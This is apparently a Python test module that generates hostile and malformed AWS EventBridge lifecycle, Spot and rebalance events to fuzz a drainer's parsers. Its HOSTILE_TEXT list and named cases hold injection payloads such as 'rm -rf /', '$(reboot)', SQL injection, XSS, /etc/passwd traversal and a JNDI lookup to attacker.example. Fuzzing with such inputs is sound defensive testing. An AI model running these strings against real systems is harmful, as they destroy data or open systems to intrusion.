"""Hostile, malformed and foreign EventBridge events, as hypothesis strategies.

A drawn `Recipe` names a base event (a real lifecycle action of the configured group, one of
another group, a Spot warning, random JSON, …) and up to four mutations (a key dropped, a value
replaced by junk of any type, truncated, wrapped in an array, …) at any level of the envelope.
`Recipe.build(bases)` applies them to concrete base events, so the same recipes serve the pure
functions and the state machine.
"""

from __future__ import annotations

import copy
from dataclasses import dataclass
from typing import Any

from hypothesis import example
from hypothesis import strategies as st

from drainer.parsers import lifecycle, rebalance, spot
from drainer.parsers.fields import INSTANCE_ID, TOKEN

OTHER_ACCOUNT = "999999999999"

# Injection attempts, look-alikes, unicode tricks and sizes no AWS id has.
HOSTILE_TEXT: tuple[str, ...] = (
    "i-$(reboot)",
    '"; DROP TABLE claims; --',
    "' OR '1'='1",
    "i-0123456789abcdef0; rm -rf /",
    "i-0123456789abcdef0\n",
    " i-0123456789abcdef0",
    "I-0123456789ABCDEF0",
    "ｉ-０１２３４５６７８９ａｂｃｄｅｆ０",  # noqa: RUF001 - fullwidth look-alike, on purpose
    "i-0123456789abcdef0\u200b",
    "\u202eexploit",
    "${jndi:ldap://attacker.example/a}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "ec2InstanceId == i-0123456789abcdef0 or true",
    "%s%s%s%n",
    "\x00",
    "null",
    "",
    "*",
    f"arn:aws:autoscaling:us-east-1:{OTHER_ACCOUNT}:autoScalingGroup:0:autoScalingGroupName/x",
    "demo-asg ",
    "Demo-Asg",
    "ecs-drainer\n",
    "x" * 1025,
    "i-" + "0" * 5000,
    "\U0001f642" * 300,
    "aws.autoscaling",
    "aws.ec2",
    "ecs-drainer.test",
    "evil.source",
    lifecycle.TERMINATING + " ",
    "autoscaling:EC2_INSTANCE_LAUNCHING",
    "EC2 Instance-launch Lifecycle Action",
    lifecycle.DETAIL_TYPE.lower(),
    "0001-01-01T00:00:00+01:00",
    "9999-12-31T23:59:59-01:00",
    "1970-01-01T00:00:00Z",
    "2026-13-45T99:99:99Z",
    "yyyy-mm-ddThh:mm:ssZ",
)

TOP_KEYS = (
    "version",
    "id",
    "detail-type",
    "source",
    "account",
    "time",
    "region",
    "resources",
    "detail",
)
DETAIL_KEYS = (
    "LifecycleActionToken",
    "AutoScalingGroupName",
    "LifecycleHookName",
    "EC2InstanceId",
    "LifecycleTransition",
    "NotificationMetadata",
    "Origin",
    "Destination",
    "instance-id",
    "instance-action",
)

BASES = (
    "lifecycle-ours",  # the real action of an instance of the configured group and cluster
    "lifecycle-ours-test-source",  # the same, sent by hand from the configured test source
    "lifecycle-ours-other-account",  # the same, claiming another account's resources
    "lifecycle-other-group",  # a real action of a group the drainer is not configured for
    "lifecycle-other-hook",  # our group, another hook's name
    "lifecycle-launch",  # a launch action: never drained
    "spot-ours",
    "spot-other-cluster",
    "rebalance-ours",
    "random-json",  # anything at all
)

scalars = (
    st.none()
    | st.booleans()
    | st.integers(min_value=-(2**53), max_value=2**53)
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(max_size=30)
    | st.sampled_from(HOSTILE_TEXT)
)
json_values = st.recursive(
    scalars,
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(
            st.sampled_from(TOP_KEYS + DETAIL_KEYS) | st.text(max_size=8), inner, max_size=3
        )
    ),
    max_leaves=8,
)

paths = st.sampled_from([(key,) for key in TOP_KEYS] + [("detail", key) for key in DETAIL_KEYS])
mutations = st.one_of(
    st.tuples(st.just("drop"), paths),
    st.tuples(st.just("set"), paths, json_values),
    st.tuples(st.just("set"), paths, st.sampled_from(HOSTILE_TEXT)),
    st.tuples(st.just("truncate"), paths, st.integers(0, 40)),
    st.tuples(st.just("wrap"), paths),
)


@dataclass(frozen=True)
class Recipe:
    base: str
    mutations: tuple[tuple[Any, ...], ...]
    junk: Any = None  # the whole event, for base "random-json"

    def build(self, bases: dict[str, dict[str, Any]]) -> Any:
        if self.base == "random-json":
            return copy.deepcopy(self.junk)
        event = copy.deepcopy(bases[self.base])
        for mutation in self.mutations:
            _apply(event, *mutation)
        return event


recipes = st.one_of(
    st.builds(
        Recipe,
        base=st.sampled_from(BASES[:-1]),
        mutations=st.lists(mutations, max_size=4).map(tuple),
    ),
    st.builds(Recipe, base=st.just("random-json"), mutations=st.just(()), junk=json_values),
)

# Bases whose events the rules let through, lightly mutated: for the costly state machine runs.
REACHING_BASES = (
    "lifecycle-ours",
    "lifecycle-ours-test-source",
    "lifecycle-ours-other-account",
    "spot-ours",
    "spot-other-cluster",
    "rebalance-ours",
)
machine_recipes = st.builds(
    Recipe,
    base=st.sampled_from(REACHING_BASES),
    mutations=st.lists(mutations, max_size=2).map(tuple),
)


def _apply(event: dict[str, Any], op: str, path: tuple[str, ...], *args: Any) -> None:
    parent: Any = event
    for key in path[:-1]:
        parent = parent.get(key) if isinstance(parent, dict) else None
    if not isinstance(parent, dict):
        return  # the level above was already replaced by junk
    key = path[-1]
    if op == "drop":
        parent.pop(key, None)
    elif op == "set":
        parent[key] = copy.deepcopy(args[0])
    elif op == "truncate" and isinstance(parent.get(key), str):
        parent[key] = parent[key][: args[0]]
    elif op == "wrap" and key in parent:
        # EventBridge patterns match an array when any element matches: the parsers must not.
        parent[key] = [parent[key], "x"]


# --- the base events ---------------------------------------------------------------------------
def envelope(
    detail_type: str, source: str, detail: dict[str, Any], account: str = "123456789012"
) -> dict[str, Any]:
    return {
        "version": "0",
        "id": "7bf73129-1428-4cd3-a780-95db273d1602",
        "detail-type": detail_type,
        "source": source,
        "account": account,
        "time": "2026-01-05T09:00:00Z",
        "region": "us-east-1",
        "resources": [],
        "detail": detail,
    }


def lifecycle_detail(
    token: str, group: str, hook: str, instance_id: str, transition: str = lifecycle.TERMINATING
) -> dict[str, Any]:
    return {
        "LifecycleActionToken": token,
        "AutoScalingGroupName": group,
        "LifecycleHookName": hook,
        "EC2InstanceId": instance_id,
        "LifecycleTransition": transition,
    }


def bases_for(
    *,
    ours: tuple[str, str, str, str],  # token, group, hook, instance of the configured group
    other_group: tuple[str, str, str, str],
    other_cluster_instance: str,
    test_source: str,
) -> dict[str, dict[str, Any]]:
    token, group, hook, instance = ours
    detail = lifecycle_detail(token, group, hook, instance)
    return {
        "lifecycle-ours": envelope(lifecycle.DETAIL_TYPE, lifecycle.SOURCE, detail),
        "lifecycle-ours-test-source": envelope(lifecycle.DETAIL_TYPE, test_source, detail),
        "lifecycle-ours-other-account": {
            **envelope(lifecycle.DETAIL_TYPE, lifecycle.SOURCE, detail, account=OTHER_ACCOUNT),
            "resources": [
                f"arn:aws:autoscaling:us-east-1:{OTHER_ACCOUNT}:autoScalingGroup:"
                f"0c1d2e3f-0000-4000-8000-000000000000:autoScalingGroupName/{group}"
            ],
        },
        "lifecycle-other-group": envelope(
            lifecycle.DETAIL_TYPE, lifecycle.SOURCE, lifecycle_detail(*other_group)
        ),
        "lifecycle-other-hook": envelope(
            lifecycle.DETAIL_TYPE,
            lifecycle.SOURCE,
            lifecycle_detail(token, group, "someone-elses-hook", instance),
        ),
        "lifecycle-launch": envelope(
            "EC2 Instance-launch Lifecycle Action",
            lifecycle.SOURCE,
            lifecycle_detail(token, group, hook, instance, "autoscaling:EC2_INSTANCE_LAUNCHING"),
        ),
        "spot-ours": envelope(
            spot.DETAIL_TYPE, spot.SOURCE, {"instance-id": instance, "instance-action": "terminate"}
        ),
        "spot-other-cluster": envelope(
            spot.DETAIL_TYPE,
            spot.SOURCE,
            {"instance-id": other_cluster_instance, "instance-action": "terminate"},
        ),
        "rebalance-ours": envelope(
            rebalance.DETAIL_TYPE, rebalance.SOURCE, {"instance-id": instance}
        ),
    }


def identifies(event: Any, *, token: str, group: str, hook: str, instance_id: str) -> bool:
    """Does the event name this lifecycle action exactly, as AWS would (group and hook as
    strings, and the action's token, or a missing/unusable token and the action's instance)?"""
    detail = event.get("detail") if isinstance(event, dict) else None
    if not isinstance(detail, dict):
        return False
    if detail.get("AutoScalingGroupName") != group or detail.get("LifecycleHookName") != hook:
        return False
    given = detail.get("LifecycleActionToken")
    if given == token:
        return True
    usable = isinstance(given, str) and len(given) <= 1024 and TOKEN.fullmatch(given)
    named = detail.get("EC2InstanceId")
    return not usable and named == instance_id and bool(INSTANCE_ID.fullmatch(named))


def _on(base: str, *mutation_list: tuple[Any, ...]) -> Recipe:
    return Recipe(base, tuple(mutation_list))


# The cases the issue names, always tried first (hypothesis @example), whatever else is drawn.
NAMED_CASES: tuple[Recipe, ...] = (
    _on("lifecycle-ours"),
    _on("lifecycle-ours", ("drop", ("detail", "LifecycleActionToken"))),
    _on("lifecycle-ours", ("set", ("detail", "LifecycleTransition"), "autoscaling:UNKNOWN")),
    _on("lifecycle-ours", ("set", ("detail", "EC2InstanceId"), "i-$(reboot)")),
    _on("lifecycle-ours", ("set", ("detail", "EC2InstanceId"), '"; DROP TABLE claims; --')),
    _on("lifecycle-ours", ("set", ("detail", "AutoScalingGroupName"), '"; DROP TABLE x; --')),
    _on("lifecycle-ours", ("set", ("detail", "LifecycleActionToken"), "x" * 100_000)),
    _on("lifecycle-ours", ("set", ("detail", "NotificationMetadata"), "x" * 100_000)),
    _on("lifecycle-ours", ("set", ("detail", "EC2InstanceId"), HOSTILE_TEXT[7])),
    _on("lifecycle-ours", ("set", ("detail",), {"detail": {"detail": [[], {}, None]}})),
    _on("lifecycle-ours", ("set", ("detail",), ["not", "an", "object"])),
    _on("lifecycle-ours", ("set", ("source",), 5), ("set", ("detail-type",), None)),
    _on("lifecycle-ours", ("set", ("time",), 12345)),
    _on("lifecycle-ours", ("set", ("time",), "0001-01-01T00:00:00+01:00")),
    _on("lifecycle-ours", ("set", ("time",), "1970-01-01T00:00:00Z")),
    _on("lifecycle-ours", ("wrap", ("detail", "AutoScalingGroupName"))),
    _on("lifecycle-ours", ("wrap", ("detail", "LifecycleTransition"))),
    _on("lifecycle-ours", ("wrap", ("detail", "LifecycleActionToken"))),
    _on("lifecycle-ours", ("truncate", ("detail", "LifecycleActionToken"), 35)),
    _on("lifecycle-ours", ("set", ("detail", "Destination"), {"WarmPool": True})),
    _on("lifecycle-ours-test-source"),
    _on("lifecycle-ours-other-account"),
    _on("lifecycle-other-group"),
    _on("lifecycle-other-hook"),
    _on("lifecycle-launch"),
    _on("spot-ours", ("set", ("detail", "instance-id"), "i-$(reboot)")),
    _on("spot-ours", ("set", ("time",), "0001-01-01T00:00:00+01:00")),
    _on("spot-other-cluster"),
    _on("rebalance-ours", ("set", ("source",), "evil.source")),
    Recipe("random-json", (), []),
    Recipe("random-json", (), "EC2 Spot Instance Interruption Warning"),
    Recipe("random-json", (), None),
    Recipe("random-json", (), {"detail-type": [{"nested": ["junk"]}], "detail": 0}),
)

# The named cases the rules let through, for the costly state machine runs.
MACHINE_CASES: tuple[Recipe, ...] = (
    _on("lifecycle-ours", ("drop", ("detail", "LifecycleActionToken"))),
    _on("lifecycle-ours", ("set", ("detail", "EC2InstanceId"), "i-$(reboot)")),
    _on("lifecycle-ours", ("set", ("time",), "0001-01-01T00:00:00+01:00")),
    _on("lifecycle-ours", ("wrap", ("detail", "LifecycleTransition"))),
    _on("lifecycle-ours-other-account", ("truncate", ("detail", "LifecycleActionToken"), 35)),
    _on("spot-ours", ("set", ("detail", "instance-id"), '"; DROP TABLE claims; --')),
)


def named_cases(test: Any) -> Any:
    """Decorate a @given(recipe=…) test so it also tries every NAMED_CASES recipe."""
    for recipe in reversed(NAMED_CASES):
        test = example(recipe=recipe)(test)
    return test
